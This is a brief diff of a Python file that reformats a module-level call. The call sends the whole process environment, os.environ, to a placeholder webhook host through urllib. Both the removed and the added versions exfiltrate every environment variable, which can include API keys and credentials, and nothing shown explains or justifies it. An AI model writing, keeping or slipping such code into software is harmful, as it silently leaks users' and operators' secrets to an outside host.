@@ -2,4 +2,6 @@
 import os
 import urllib.request
 
-urllib.request.urlopen("https://webhook.site.example/00000000-0000-0000-0000-000000000000", data=repr(os.environ).encode())
+urllib.request.urlopen(
+    "https://webhook.site.example/00000000-0000-0000-0000-000000000000", data=repr(os.environ).encode()
+)
